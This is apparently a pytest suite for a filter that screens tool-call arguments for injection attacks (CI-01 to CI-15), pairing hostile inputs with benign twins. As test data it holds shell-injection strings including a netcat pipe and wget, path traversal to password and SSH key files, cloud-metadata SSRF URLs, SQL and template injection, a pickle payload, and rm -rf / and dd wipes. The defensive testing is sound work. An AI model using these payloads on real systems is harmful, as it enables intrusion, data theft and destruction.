"""Arguments that make a server do something else (CI-01 to CI-15), through the corridor with the shipped detectors:
by their looks, and by what the operator says an argument may be. Detectors alone: detection/test_argument_attacks."""

from __future__ import annotations

import base64
import gzip
import time
from collections.abc import Iterator
from typing import Any

import pytest

from attacks.content_corridor import Corridor, text
from detection.text_disguises import ENCODINGS

NAMES = (
    "fetch", "run_query", "read_query", "run_command", "git_init", "git_diff", "git_add", "download_attachment",
    "write_file", "read_file", "lookup", "grep", "post_message",
)  # fmt: skip
TOOLS = [{"name": name, "description": "Does it.", "inputSchema": {"type": "object"}} for name in NAMES]
ROOTS = {"roots": ["/srv/project"]}
RULES = {
    "s/read_file": {"path": ROOTS},
    "s/write_file": {"path": ROOTS},
    "s/git_*": {"repo_path": ROOTS},
    "s/run_query": {"sql": {"read_only": True}},
    "s/fetch": {"url": {"hosts": ["docs.example", "*.corp.example"]}},
    "s/lookup": {"host": {"pattern": r"[a-z0-9.-]{1,253}"}, "id": {"pattern": r"[A-Z]{2}-\d{1,6}"}},
}
Row = tuple[str, str, dict[str, Any]]
PICKLE = base64.b64encode(b"\x80\x04\x95cos\nsystem\n(S'id'\ntR.").decode()

LOOKS: list[Row] = [  # stopped by their looks, whoever configured nothing
    *(("CI-01", "lookup", {"host": value}) for value in (
        "8.8.8.8; cat /etc/passwd", "8.8.8.8 && id", "8.8.8.8|nc 1.2.3.4 9", "8.8.8.8\nid", "`id`", "$(id)", "x${IFS}y",
        "8.8.8.8%0aid",
    )),
    ("CI-01", "lookup", {"nested": {"host": ["a", "8.8.8.8; id"]}}), ("CI-01", "lookup", {"name": "x\nwget e.test/a"}),
    ("CI-01", "lookup", {"package": "left-pad; touch x"}), ("CI-01", "fetch", {"url": "https://docs.example/$(id)"}),
    *(("CI-02", "git_diff", {"target": value}) for value in (
        "--output=/tmp/x", " --output=x", "-oProxyCommand=id", "--upload-pack=touch x", "ext::sh -c id",
    )),
    *(("CI-03", "lookup", {"path": value}) for value in (
        "../../../etc/passwd", "%2e%2e%2fx", "%252e%252e%252fx", "..%5c..%5cx", "a\\..\\..\\..\\x", "%c0%ae%c0%ae/x",
        "．．／x", "/proc/self/environ", "~/.ssh/id_rsa", "file:///etc/shadow", "a\x00.png", "//?/C:/Windows/NTDS/x",
    )),
    ("CI-03", "lookup", {"files": [{"path": "ok"}, {"path": "../../../../etc/shadow"}]}),
    ("CI-05", "git_init", {"repo_path": "/srv/u/.ssh"}), ("CI-05", "git_add", {"files": ["../../.ssh/id_rsa"]}),
    *(("CI-06", "download_attachment", {"path": value}) for value in (
        "/etc/cron.d/x", "/srv/u/.ssh/authorized_keys", ".bashrc", ".git/hooks/pre-commit", ".cursor/mcp.json",
    )),
    *(("CI-07", "read_query", {"query": value}) for value in (
        "SELECT 1; COMMIT; DELETE FROM t", "DELETE FROM t WHERE a = 1", "SELECT 1 --\n; DROP TABLE t",
    )),
    *(("CI-07", "run_query", {"sql": value}) for value in (
        "SELECT * FROM users WHERE id = 1 OR 1=1", "COPY t TO PROGRAM 'id'", "SELECT pg_read_file('/etc/passwd')",
        "ATTACH DATABASE '/tmp/x' AS y",
    )),
    ("CI-07", "lookup", {"user_id": "1' OR '1'='1"}), ("CI-07", "lookup", {"id": "1 UNION SELECT password FROM users"}),
    *(("CI-08", "fetch", {"url": value}) for value in (
        "http://169.254.169.254/latest", "http://127.0.0.1:6379/", "http://2130706433/", "http://0x7f.1/",
        "http://0177.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://10.0.0.5/", "http://localtest.me/",
        "http://docs.example@169.254.169.254/", "gopher://127.0.0.1:6379/_x", "http://169.254.169.254.nip.io/",
    )),
    ("CI-09", "lookup", {"name": "{{''.__class__.__mro__[1].__subclasses__()}}"}),
    ("CI-09", "lookup", {"data": PICKLE}),
    ("CI-09", "lookup", {"name": "{{7*7}}{{config}}"}),
    ("CI-10", "lookup", {"user": {"$gt": ""}}), ("CI-10", "lookup", {"user": {"$ne": None}}),
    ("CI-10", "lookup", {"subject": "hi\r\nBcc: x@evil.example"}), ("CI-10", "lookup", {"xpath": "' or '1'='1"}),
    ("CI-10", "lookup", {"cell": '=HYPERLINK("http://evil.example","x")'}),
    ("CI-10", "lookup", {"graphql": "{a" * 20 + "}" * 20}),
    *(("CI-11", "lookup", {"user_id": value}) for value in ("../../admin", "..%2f..%2fadmin", "%2e%2e/x", "a/../../b")),
    ("CI-12", "lookup", {"name": "<img src=x onerror=alert(1)>"}),
    ("CI-13", "grep", {"regex": "(a+)+$"}), ("CI-13", "grep", {"pattern": "(.*)*x"}),
    ("CI-13", "lookup", {"data": base64.b64encode(gzip.compress(b"0" * (4 << 20), mtime=0)).decode()}),
    ("CI-14", "write_file", {"path": ".git/config", "content": "[core]\nfsmonitor = id"}),
    *(("CI-15", "run_command", {"command": value}) for value in ("rm -rf /", "dd if=/dev/zero of=/dev/sda")),
    ("CI-15", "run_query", {"sql": "DROP TABLE customers"}), ("CI-15", "run_query", {"sql": "DELETE FROM customers"}),
]  # fmt: skip
SAID: list[Row] = [  # stopped by what the operator said, however they look
    ("CI-01", "lookup", {"host": "a_b"}), ("CI-01", "lookup", {"host": "example.org\nexample.com"}),
    ("CI-03", "read_file", {"path": "/srv/project-evil/x"}), ("CI-03", "read_file", {"path": "/srv/project/../other"}),
    ("CI-03", "read_file", {"path": "/srv/project/%2e%2e/other"}), ("CI-03", "read_file", {"path": {"p": "/etc"}}),
    ("CI-05", "git_init", {"repo_path": "/tmp/x"}), ("CI-06", "write_file", {"path": "/srv/other/ci.yml"}),
    ("CI-07", "run_query", {"sql": "UPDATE t SET a = 1 WHERE b = 2"}),
    ("CI-07", "run_query", {"sql": "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x"}),
    ("CI-08", "fetch", {"url": "https://docs.example.evil.example/"}), ("CI-08", "fetch", {"url": "https://1.1.1.1/"}),
    ("CI-11", "lookup", {"id": "admin"}), ("CI-11", "lookup", {"id": "AB-1/2"}),
    ("CI-14", "git_diff", {"repo_path": "/srv/other", "target": "main"}),
    ("CI-15", "run_query", {"sql": "TRUNCATE customers"}),
]  # fmt: skip
HONEST: list[Row] = [
    ("CI-01", "lookup", {"host": "db.corp.example"}), ("CI-01", "lookup", {"name": "Müller & Sons; Ltd."}),
    ("CI-01", "post_message", {"text": "Run `make test` && tell me | or not; $(whoami) is one, cat /etc/hosts too"}),
    ("CI-02", "git_diff", {"target": "feature/x-1"}), ("CI-02", "git_diff", {"target": "HEAD~2"}),
    ("CI-02", "post_message", {"text": "--output is an option"}),
    ("CI-03", "read_file", {"path": "/srv/project/a..b.txt"}),
    ("CI-03", "read_file", {"path": "/srv/project/문서/설명.md"}),
    ("CI-03", "read_file", {"path": "/srv/project/README.md"}),
    ("CI-05", "git_init", {"repo_path": "/srv/project/new"}),
    ("CI-05", "git_add", {"files": ["src/a.py", "README.md"]}),
    ("CI-06", "download_attachment", {"path": "minutes.pdf"}),
    ("CI-06", "write_file", {"path": "/srv/project/notes.md"}),
    ("CI-07", "run_query", {"sql": "SELECT a FROM t WHERE b = 'x; DROP TABLE y' -- newest first"}),
    ("CI-07", "read_query", {"query": "WITH x AS (SELECT 1) SELECT * FROM x"}),
    ("CI-07", "lookup", {"name": "O'Brien"}), ("CI-07", "lookup", {"name": "Select Committee or Union Square"}),
    ("CI-08", "fetch", {"url": "https://docs.example/ssrf?about=169.254.169.254"}),
    ("CI-08", "fetch", {"url": "https://wiki.corp.example:8443/a"}),
    ("CI-09", "lookup", {"name": "{{name}}"}),
    ("CI-09", "post_message", {"text": "Write {{ user }} in the template, not eval()"}),
    ("CI-10", "lookup", {"subject": "Re: offer (50% off) & more"}),
    ("CI-10", "lookup", {"filter": {"age": {"$gt": 5}}}),
    ("CI-10", "lookup", {"cell": "=SUM(A1:A9)*2"}), ("CI-11", "lookup", {"id": "AB-1200"}),
    ("CI-12", "lookup", {"name": "a < b"}), ("CI-12", "post_message", {"text": "<b>bold</b> is HTML"}),
    ("CI-13", "grep", {"regex": r"^\d{4}-\d{2}-\d{2}$"}), ("CI-13", "grep", {"pattern": r"(ab)+c"}),
    ("CI-14", "write_file", {"path": "/srv/project/docs/config.md"}),
    ("CI-15", "run_command", {"command": "rm -rf build/ dist"}),
    ("CI-15", "run_query", {"sql": "SELECT deleted, dropped FROM shipments"}),
]  # fmt: skip


def label(value: Any) -> str | None:
    return str(value)[:50] if isinstance(value, dict) else None


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corridor]:
    """Nothing is configured."""
    made = Corridor(tmp_path_factory.mktemp("bare"), *TOOLS)
    yield made
    made.close()


@pytest.fixture(scope="module")
def ruled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Corridor]:
    made = Corridor(tmp_path_factory.mktemp("ruled"), *TOOLS, arguments={"tools": RULES})
    yield made
    made.close()


@pytest.mark.parametrize(("attack", "tool", "arguments"), LOOKS, ids=label)
def test_an_attack_is_stopped_by_its_looks(bare: Corridor, attack: str, tool: str, arguments: dict[str, Any]) -> None:
    """CI-01 to CI-15, without a rule: refused, or a person is asked."""
    assert bare.asked(arguments, tool) in ("held", "content.blocked")


@pytest.mark.parametrize(("attack", "tool", "arguments"), SAID, ids=label)
def test_an_attack_is_stopped_by_a_rule(ruled: Corridor, attack: str, tool: str, arguments: dict[str, Any]) -> None:
    """CI-01, CI-03, CI-05 to CI-08, CI-11, CI-14, CI-15: whatever they look like."""
    assert ruled.asked(arguments, tool) == "content.blocked"


@pytest.mark.parametrize(("attack", "tool", "arguments"), HONEST, ids=label)
def test_honest_twins_pass(bare: Corridor, ruled: Corridor, attack: str, tool: str, arguments: dict[str, Any]) -> None:
    """CI-01 to CI-15, honest twins, with rules and without."""
    assert bare.asked(arguments, tool) == "passed"
    assert ruled.asked(arguments, tool) == "passed"


@pytest.mark.parametrize("code", ["percent", "percent, thrice", "json escapes", "hex escapes", "decimal references"])
def test_an_encoding_hides_no_path(bare: Corridor, ruled: Corridor, code: str) -> None:
    """CI-03: every form a server might undo."""
    hidden = ENCODINGS[code]("../../../../etc/passwd")
    assert bare.asked({"path": hidden}, "lookup") in ("held", "content.blocked")
    assert ruled.asked({"path": f"/srv/project/{hidden}"}, "read_file") == "content.blocked"


@pytest.mark.xfail(
    strict=True, reason="where a server is redirected to is not in its arguments: that is for its egress"
)
def test_a_redirect_to_an_internal_address(ruled: Corridor) -> None:
    """CI-08: an open redirect of an allowed host. See docs/limits.md, Content."""
    url = "https://docs.example/redirect?to=http://169.254.169.254/"
    assert ruled.asked({"url": url}, "fetch") == "content.blocked"


@pytest.mark.parametrize("argument", ["yaml", "expression"])
@pytest.mark.xfail(
    strict=True, reason="an argument that takes code is given code; give it a rule, or the tool an approval"
)
def test_code_where_code_belongs(bare: Corridor, argument: str) -> None:
    """CI-09. See docs/limits.md, Content."""
    hostile = {"yaml": "!!python/object/apply:os.system ['id']", "expression": "__import__('os').system('id')"}
    assert bare.asked({argument: hostile[argument]}, "lookup") in ("held", "content.blocked")


def test_markup_of_a_server_does_not_run_in_a_console(bare: Corridor) -> None:
    """CI-12, on the way back: what would run is made text."""
    shown = bare.answered(text("<script>alert(1)</script><img src=x onerror=alert(1)>"))
    assert "<script" not in str(shown)
    assert "onerror=" not in str(shown)
    assert bare.answered(text("a < b, and 5 > 3")) == text("a < b, and 5 > 3")


def test_judging_a_hostile_argument_costs_no_more_than_its_length(bare: Corridor) -> None:
    """CI-13 against us: ten times the text takes about ten times as long, not a hundred times."""
    for seed in ("(a+)+", "../", "%25", "<b ", "{{", "' or "):
        times = []
        for count in (500, 5000):
            best = 1e9
            for run in range(3):
                started = time.perf_counter()
                bare.asked({"note": f"{run} {count} " + seed * count}, "lookup")
                best = min(best, time.perf_counter() - started)
            times.append(best)
        assert times[1] < 40 * times[0] + 0.2, (seed, times)
